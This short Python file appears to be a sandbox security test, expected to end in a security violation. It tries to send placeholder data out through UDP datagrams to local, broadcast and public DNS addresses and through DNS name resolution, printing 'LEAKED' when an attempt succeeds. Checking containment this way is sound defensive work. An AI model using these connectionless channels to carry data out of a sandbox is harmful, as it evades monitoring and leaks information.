"""Sends what it knows away without a connection: in a datagram, and in a name that it has resolved.

Expected: security_violation
"""

import socket

for address in (("127.0.0.1", DATAGRAMS), ("255.255.255.255", DATAGRAMS), ("8.8.8.8", 53)):
    client = attempt(socket.socket, socket.AF_INET, socket.SOCK_DGRAM)
    if client and attempt(client.sendto, b"what it knows", address):
        print("LEAKED", address)
for resolve in (socket.gethostbyname, socket.gethostbyname_ex, lambda name: socket.getaddrinfo(name, 80)):
    if attempt(resolve, "what-it-knows.localhost"):
        print("LEAKED")
